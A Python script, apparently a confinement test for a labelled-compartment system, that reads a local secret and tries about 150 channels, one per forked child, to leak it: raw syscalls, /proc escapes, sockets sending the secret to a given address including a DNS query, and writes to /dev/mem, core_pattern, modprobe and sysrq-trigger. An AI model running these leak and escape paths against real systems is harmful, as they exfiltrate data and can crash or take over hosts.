"""Looks for a way from ./secret to OUT (an unlabelled folder), to the machine's address, and to anybody else.

Each way is tried alone, and its name printed if the kernel let it go through. Run: thief.py OUT ADDRESS PORT [WAY]
"""

import ctypes
import fcntl
import mmap
import os
import socket
import struct
import sys

OUT, ADDRESS, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
S = open("secret").read().strip()
B = S.encode()
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
WAYS = []


def way(f):
    WAYS.append(f)
    return f


def call(number, *args):
    result = libc.syscall(number, *args)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


EXISTING = OUT + "/existing"
AT_FDCWD = -100


# ---- files: past the library, by descriptors that were opened for something else


@way
def raw_openat():
    os.write(call(257, AT_FDCWD, (OUT + "/raw").encode(), os.O_CREAT | os.O_WRONLY, 0o666), B)


@way
def raw_openat2():
    how = struct.pack("QQQ", os.O_CREAT | os.O_WRONLY, 0o666, 0)
    os.write(call(437, AT_FDCWD, (OUT + "/raw2").encode(), how, 24), B)


@way
def raw_creat():
    call(85, (OUT + "/creat").encode(), 0o666)


@way
def nameless_file_that_gets_a_name():
    fd = os.open(OUT, os.O_TMPFILE | os.O_RDWR, 0o666)
    os.write(fd, B)
    os.link("/proc/self/fd/%d" % fd, OUT + "/tmpfile", follow_symlinks=True)


@way
def memory_file_linked_into_the_folder():
    fd = os.memfd_create(S)
    os.write(fd, B)
    call(265, fd, b"", AT_FDCWD, (OUT + "/memfd").encode(), 0x1000)


@way
def path_descriptor_reopened():
    fd = os.open(EXISTING, os.O_PATH)
    os.write(os.open("/proc/self/fd/%d" % fd, os.O_WRONLY), B)


@way
def read_descriptor_mapped_for_writing():
    fd = os.open(EXISTING, os.O_RDONLY)
    m = mmap.mmap(fd, 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    m[: len(B)] = B


@way
def copied_in_the_kernel():
    to = os.open(EXISTING, os.O_WRONLY | os.O_APPEND)
    os.copy_file_range(os.open("secret", os.O_RDONLY), to, 17)


@way
def names_exchanged():
    call(316, AT_FDCWD, b"secret", AT_FDCWD, EXISTING.encode(), 2)


@way
def truncated():
    os.truncate(EXISTING, 4711)


@way
def device_node():
    os.mknod(OUT + "/" + S, 0o600 | 0o020000, os.makedev(1, 3))


@way
def fifo():
    os.mkfifo(OUT + "/" + S)


@way
def lock_that_others_see():
    fcntl.flock(os.open(EXISTING, os.O_RDONLY), fcntl.LOCK_EX)


@way
def lease_that_others_wait_for():
    fcntl.fcntl(os.open(EXISTING, os.O_RDONLY), fcntl.F_SETLEASE, fcntl.F_RDLCK)


@way
def hint_kept_by_the_inode():
    fcntl.fcntl(os.open(EXISTING, os.O_RDONLY), 1036, struct.pack("Q", 5))


@way
def flags_of_the_inode():
    fcntl.ioctl(os.open(EXISTING, os.O_RDONLY), 0x40086602, struct.pack("l", 0x80))


@way
def extended_attribute_by_descriptor():
    os.setxattr(os.open(EXISTING, os.O_RDONLY), "user.x", B)


@way
def times_by_descriptor():
    os.utime(os.open(EXISTING, os.O_RDONLY), (4711, 4711))


@way
def up_and_around():
    open("/proc/self/root" + OUT + "/../" + os.path.basename(OUT) + "/root", "w").write(S)


@way
def folder_of_process_1():
    open("/proc/1/root" + OUT + "/one", "w").write(S)


@way
def folder_behind_a_mount():
    libc.chroot(OUT.encode()) == 0 and open("/chrooted", "w").write(S)
    raise OSError


@way
def handle_instead_of_a_name():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    call(303, AT_FDCWD, EXISTING.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
    fd = call(304, os.open(OUT, os.O_RDONLY), handle, os.O_WRONLY)
    os.write(fd, B)


@way
def asynchronous_write():
    context = ctypes.c_ulong()
    call(206, 1, ctypes.byref(context))
    fd = os.open(EXISTING, os.O_WRONLY)
    buffer = ctypes.create_string_buffer(B)
    block = ctypes.create_string_buffer(
        struct.pack("QIIHHIQQqQII", 0, 0, 0, 1, 0, fd, ctypes.addressof(buffer), len(B), 0, 0, 0, 0)
    )
    call(209, context, 1, ctypes.byref(ctypes.c_void_p(ctypes.addressof(block))))


# ---- sockets: every kind, every call


def reach(family, kind, address, protocol=0):
    k = socket.socket(family, kind, protocol)
    k.settimeout(3)
    k.connect(address)
    k.send(B)


@way
def tcp():
    reach(socket.AF_INET, socket.SOCK_STREAM, (ADDRESS, PORT))


@way
def multipath_tcp():
    reach(socket.AF_INET, socket.SOCK_STREAM, (ADDRESS, PORT), 262)


@way
def tcp_with_data_in_the_first_packet():
    socket.socket().sendto(B, 0x20000000, (ADDRESS, PORT))


@way
def dns():
    query = struct.pack(">6H", 4711, 0x100, 1, 0, 0, 0) + bytes([len(B)]) + B + b"\7example\3org\0\0\1\0\1"
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, (ADDRESS, 53))


@way
def datagrams_in_one_call():
    k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    buffer = ctypes.create_string_buffer(B)
    vector = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(buffer), len(B)))

    def message(address):
        name = ctypes.create_string_buffer(struct.pack("<H", 2) + struct.pack(">H", PORT) + socket.inet_aton(address) + bytes(8))
        keep.append(name)
        return struct.pack("QIIQQQQII", ctypes.addressof(name), 16, 0, ctypes.addressof(vector), 1, 0, 0, 0, 0) + bytes(8)

    keep = []
    both = ctypes.create_string_buffer(message("127.0.0.1") + message(ADDRESS))
    if call(307, k.fileno(), both, 2, 0) < 2:
        raise OSError


@way
def datagram_to_an_address_without_family():
    k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    name = struct.pack("<H", 0) + struct.pack(">H", PORT) + socket.inet_aton(ADDRESS) + bytes(8)
    call(44, k.fileno(), B, len(B), 0, name, 16)


@way
def mapped_address():
    reach(socket.AF_INET6, socket.SOCK_DGRAM, ("::ffff:" + ADDRESS, PORT))


@way
def neighbour_of_the_link():
    reach(socket.AF_INET6, socket.SOCK_DGRAM, ("fe80::2", PORT, 0, 1))


@way
def address_of_its_own():
    k = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("BBBBI", 2, 8, 0, 0, 1) + struct.pack("HH4s", 8, 2, socket.inet_aton(ADDRESS))
    k.send(struct.pack("IHHII", 16 + len(body), 20, 0x405, 1, 0) + body)
    error = struct.unpack_from("i", k.recv(4096), 16)[0]
    if error:
        raise OSError(error)


@way
def unix_socket_of_the_folder():
    reach(socket.AF_UNIX, socket.SOCK_STREAM, OUT + "/socket-1")


@way
def unix_datagram_to_the_folder():
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(B, OUT + "/socket-2")


@way
def unix_socket_by_descriptor():
    fd = os.open(OUT + "/socket-1", os.O_PATH)
    reach(socket.AF_UNIX, socket.SOCK_STREAM, "/proc/self/fd/%d" % fd)


@way
def abstract_socket():
    reach(socket.AF_UNIX, socket.SOCK_STREAM, "\0outside-1")


@way
def abstract_datagram():
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(B, "\0outside-2")


@way
def descriptor_passed_outside():
    k = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    socket.send_fds(k, [b"x"], [os.open("secret", os.O_RDONLY)], 0, OUT + "/socket-2")


@way
def daemon_of_csn():
    reach(socket.AF_UNIX, socket.SOCK_STREAM, "/run/csn/csnd.sock")


@way
def daemon_of_csn_by_tcp():
    reach(socket.AF_INET, socket.SOCK_STREAM, (ADDRESS, 7070))


def made(family, kind, protocol):
    def f():
        socket.socket(family, kind, protocol)

    return f


for name, family, kind, protocol in (
    ("packets", 17, 3, 0x300),
    ("raw", 2, 3, 255),
    ("raw6", 10, 3, 255),
    ("ping", 2, 2, 1),
    ("sctp", 2, 1, 132),
    ("udp_lite", 2, 2, 136),
    ("generic_netlink", 16, 3, 16),
    ("audit", 16, 3, 9),
    ("kernel_events", 16, 3, 15),
    ("process_events", 16, 3, 11),
    ("xfrm", 16, 3, 6),
    ("netfilter", 16, 3, 12),
    ("crypto", 38, 5, 0),
    ("vsock", 40, 1, 0),
    ("bluetooth", 31, 3, 1),
    ("can", 29, 3, 1),
    ("tipc", 30, 2, 0),
    ("smc", 43, 1, 0),
    ("xdp", 44, 3, 0),
    ("qipcrtr", 42, 2, 0),
    ("kcm", 41, 2, 0),
    ("rds", 21, 5, 0),
    ("mctp", 45, 2, 0),
):
    f = made(family, kind, protocol)
    f.__name__ = "socket_" + name
    way(f)


# ---- the kernel's doors


@way
def kernel_log():
    libc.klogctl(3, None, 0) >= 0 or os.open("/dev/kmsg", os.O_WRONLY)


@way
def system_log():
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(B, "/dev/log")


@way
def settings():
    open("/proc/sys/kernel/hostname", "w").write(S)


@way
def settings_of_the_network():
    open("/proc/sys/net/ipv4/ip_local_port_range", "w").write("4711 4799")


@way
def host_name():
    call(170, B, len(B))


@way
def control_group():
    os.mkdir("/sys/fs/cgroup/" + S)


@way
def ring():
    call(425, 1, ctypes.create_string_buffer(256))


@way
def bpf_program():
    call(321, 0, ctypes.create_string_buffer(128), 128)


@way
def counters():
    call(298, ctypes.create_string_buffer(128), 0, -1, -1, 0)


@way
def faults():
    call(323, 0)


@way
def new_user_namespace():
    call(272, 0x10000000)


@way
def new_network():
    call(272, 0x40000000)


@way
def namespace_of_process_1():
    call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0)


@way
def mount_of_its_own():
    call(165, b"tmpfs", OUT.encode(), b"tmpfs", 0, None)


@way
def clock():
    call(227, 0, struct.pack("qq", 4711, 0))


@way
def module():
    call(175, B, len(B), b"")


@way
def accounting():
    call(163, (OUT + "/acct").encode())


@way
def signal_to_everybody_outside():
    import signal

    os.kill(2**15 - 1, 0)


@way
def nice_value_that_others_read():
    call(314, 0, struct.pack("IIQiIQQQII", 56, 0, 0, 7, 0, 0, 0, 0, 0, 0), 0)


@way
def nice_value_by_its_own_call():
    os.setpriority(os.PRIO_PROCESS, 0, 7)


@way
def limits_that_others_read():
    import resource

    resource.setrlimit(resource.RLIMIT_MSGQUEUE, (4711, 4711))


@way
def parent_of_the_compartment():
    call(310, os.getppid(), 0, 0, 0, 0, 0) or os.readlink("/proc/%d/exe" % os.getppid())
    open("/proc/1/mem", "wb").write(B)


@way
def other_system_call_table():
    call(0x40000000 | 257, AT_FDCWD, (OUT + "/x32").encode(), os.O_CREAT | os.O_WRONLY, 0o666)


# ---- newer calls, and files that are doors


@way
def child_in_a_group_outside():
    fd = os.open("/sys/fs/cgroup", os.O_RDONLY)
    arguments = struct.pack("11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, fd)
    if call(435, arguments, len(arguments)) == 0:
        os._exit(0)


@way
def mode_by_the_newest_call():
    call(452, os.open(EXISTING, os.O_PATH), b"", 0o640, 0x1000)


@way
def attribute_by_the_newest_call():
    call(463, AT_FDCWD, EXISTING.encode(), 0, b"user.x", struct.pack("QII", 0, 0, 0), 16)


@way
def attribute_that_only_root_sees():
    os.setxattr(EXISTING, "trusted.x", B)


@way
def clone_of_the_file():
    fcntl.ioctl(os.open(EXISTING, os.O_WRONLY), 0x40049409, os.open("secret", os.O_RDONLY))


@way
def same_extents():
    to = os.open(EXISTING, os.O_RDONLY)
    request = bytearray(struct.pack("QQHHIqQQiI", 0, 4096, 1, 0, 0, to, 0, 0, 0, 0))
    fcntl.ioctl(os.open("secret", os.O_RDONLY), 0xC0189436, request)
    if struct.unpack_from("i", request, 48)[0] != 0:
        raise OSError


@way
def name_left_behind():
    call(316, AT_FDCWD, EXISTING.encode(), AT_FDCWD, b"taken", 4)


@way
def watch_with_handles():
    call(300, 0x200 | 0x400, 0)


@way
def advice_to_another_process():
    call(440, call(434, os.getpid(), 0), struct.pack("QQ", 0, 0), 1, 20, 0)


@way
def quota_by_descriptor():
    call(443, os.open(OUT, os.O_RDONLY), 0x80000700 << 8, 0, 0)


@way
def swap_space_taken_away():
    call(168, EXISTING.encode())


@way
def layout_of_its_memory():
    call(157, 35, 8, 0, 0, 0)


@way
def attribute_of_a_security_module():
    call(460, 100, struct.pack("QQQQ", 104, 0, 33, 1) + b"x", 33, 0)


@way
def group_packet_by_any_device():
    k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    k.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(ADDRESS))
    k.sendto(B, ("239.1.2.3", PORT))


@way
def packet_that_is_corked():
    k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    k.sendto(B[:4], 0x8000, (ADDRESS, PORT))


@way
def device_for_another_network():
    k = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = bytes(16) + struct.pack("HHI", 8, 19, 1) + struct.pack("HHHH", 13, 18, 9, 1) + b"dummy" + bytes(3)
    k.send(struct.pack("IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
    error = struct.unpack_from("i", k.recv(4096), 16)[0]
    if error:
        raise OSError(error)


def opened(path, data=None):
    def f():
        fd = os.open(path, os.O_RDWR if data is None else os.O_WRONLY)
        if data is not None:
            os.write(fd, data)

    return f


for path in (
    "/dev/mem /dev/port /dev/kmsg /dev/fuse /dev/net/tun /dev/kvm /dev/vsock /dev/vhost-net /dev/loop-control /dev/loop0 "
    "/dev/userfaultfd /dev/console /dev/tty0 /dev/ttyS0 /dev/hvc0 /dev/uinput /dev/cuse /dev/btrfs-control /dev/mapper/control /dev/vda"
).split():
    f = opened(path)
    f.__name__ = "opened_" + path
    way(f)
for name, data in (
    ("oom_score_adj", b"7"),
    ("timerslack_ns", b"4711"),
    ("coredump_filter", b"7"),
    ("clear_refs", b"1"),
    ("loginuid", b"4711"),
    ("autogroup", b"7"),
    ("attr/current", B),
    ("attr/keycreate", B),
    ("uid_map", b"0 0 1"),
    ("setgroups", b"deny"),
):
    f = opened("/proc/self/" + name, data)
    f.__name__ = "written_" + name
    way(f)
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/sys/kernel/mm/ksm/run", "/sys/fs/cgroup/cgroup.procs", "/sys/power/state", "/sys/kernel/uevent_helper"):
    f = opened(path, b"h" if "sysrq" in path else B)
    f.__name__ = "written_" + path
    way(f)


# ---- objects outside any folder, which somebody unlabelled may look for; they may succeed inside


@way
def _system_v_memory():
    call(30, call(29, 4711, 4096, 0o1666), 0, 0)


@way
def _system_v_message():
    call(69, call(68, 4711, 0o1666), struct.pack("l", 1) + B, len(B), 0)


@way
def _posix_queue():
    attributes = struct.pack("8l", 0, 4, 64, 0, 0, 0, 0, 0)
    call(242, call(240, S[:16].encode(), 0o102, 0o666, attributes), B, len(B), 0, None)


@way
def _key_of_the_user():
    call(248, b"user", B, B, len(B), -4)


@way
def _key_of_the_session():
    call(248, b"user", B, B, len(B), -5)


@way
def _abstract_name():
    k = socket.socket(socket.AF_UNIX)
    k.bind("\0" + S)
    libc.dup(k.fileno())


@way
def _shared_memory():
    open("/dev/shm/" + S, "w").write(S)


@way
def _route_of_the_packet():
    k = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    k.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(ADDRESS) + b"\0")
    k.sendto(B, ("127.0.0.1", PORT))


@way
def _name_of_its_memory():
    m = mmap.mmap(-1, 4096)
    libc.prctl(0x53564D41, 0, ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(m))), 4096, B)


@way
def _key_of_the_user_for_long():
    call(250, 22, -1, -3)


@way
def _name_of_the_thread():
    libc.prctl(15, B, 0, 0, 0)


if __name__ == "__main__":
    for f in WAYS:
        child = os.fork()
        if child == 0:
            try:
                sys.stderr = None
                f()
                os.write(1, b"through: %s\n" % f.__name__.encode())
            except (OSError, ValueError):
                pass
            finally:
                os._exit(0)
        os.waitpid(child, 0)
    print("tried", len(WAYS))
    sys.stdout.flush()
    if len(sys.argv) > 4:
        # Somebody looks meanwhile at what is in memory and on the command line.
        import time

        time.sleep(float(sys.argv[4]))
